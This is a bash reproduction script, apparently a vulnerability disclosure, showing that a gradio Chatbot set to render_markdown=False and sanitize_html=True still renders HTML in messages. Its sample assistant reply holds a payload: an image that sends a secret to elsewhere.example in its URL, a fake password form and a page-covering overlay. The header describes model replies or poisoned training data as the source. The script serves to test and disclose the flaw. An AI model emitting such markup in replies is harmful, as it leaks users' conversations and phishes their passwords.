#!/usr/bin/env bash
# gradio 6.31: Chatbot(render_markdown=False, sanitize_html=True) shows a message's HTML: images are loaded, forms work,
# and an element with position: fixed covers the page.
#
# One would have guessed: without Markdown a message is plain text ("render_markdown: if False, will disable Markdown
# rendering for chatbot messages"), and with sanitize_html, the default, nothing of a message can leave its bubble. But
# the message goes through the same {@html}. The sanitizer removes scripts and event handlers, and keeps <img>, <form>,
# <input>, <button> and style attributes. LaTeX between $$ is rendered, too.
#
# Whom it hurts: who shows what a model says. A reply, or whoever wrote its training data, can load an image from
# elsewhere with what was said in its URL, ask for a password, or cover the page. Escape every message, and send a
# content security policy.
#
# Needs Chromium (apt-get install chromium).
set -euo pipefail
chromium=$(command -v chromium || command -v chromium-browser) || { echo "needs Chromium: nothing to show here"; exit 0; }
folder=$(mktemp -d); trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install -q --disable-pip-version-check gradio==6.31.0 playwright==1.65.2
cat > "$folder/probe.py" <<'PY'
import os, socket, sys, threading

os.environ["GRADIO_ANALYTICS_ENABLED"] = "False"
import gradio as gr
from playwright.sync_api import sync_playwright

with socket.socket() as probe:
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
REPLY = """Fine. <img src="https://elsewhere.example/spy.png?secret">
<form action="https://elsewhere.example/"><input name="password"><button>Log in again</button></form>
<div style="position: fixed; inset: 0; background: white; z-index: 9999">The page is gone</div>"""
said = [{"role": "user", "content": "How are you?"}, {"role": "assistant", "content": REPLY}]
with gr.Blocks() as page:
    gr.Chatbot(said, render_markdown=False, sanitize_html=True, elem_id="chat")
page.launch(server_name="127.0.0.1", server_port=port, quiet=True, prevent_thread_lock=True, ssr_mode=False)
asked = []
with sync_playwright() as playwright:
    browser = playwright.chromium.launch(executable_path=sys.argv[1], args=["--no-sandbox", "--disable-gpu"])
    tab = browser.new_page(viewport={"width": 1000, "height": 700})
    tab.on("request", lambda request: asked.append(request.url))
    tab.goto(f"http://127.0.0.1:{port}")
    tab.locator("#chat .bot").last.wait_for()
    tab.wait_for_timeout(1000)
    tags = {tag: tab.locator(f"#chat .bot {tag}").count() for tag in ("img", "form", "input[name=password]")}
    corner = tab.evaluate("document.elementFromPoint(5, 5).innerText")
    browser.close()
spied = [url for url in asked if "elsewhere.example" in url]
print("gradio", gr.__version__)
print("elements in the message:", tags)
print("asked of another machine:", spied)
print("what a click in the page's corner hits:", repr(corner))
os._exit(0 if all(tags.values()) and spied and corner == "The page is gone" else 1)
PY
"$folder/venv/bin/python" "$folder/probe.py" "$chromium"
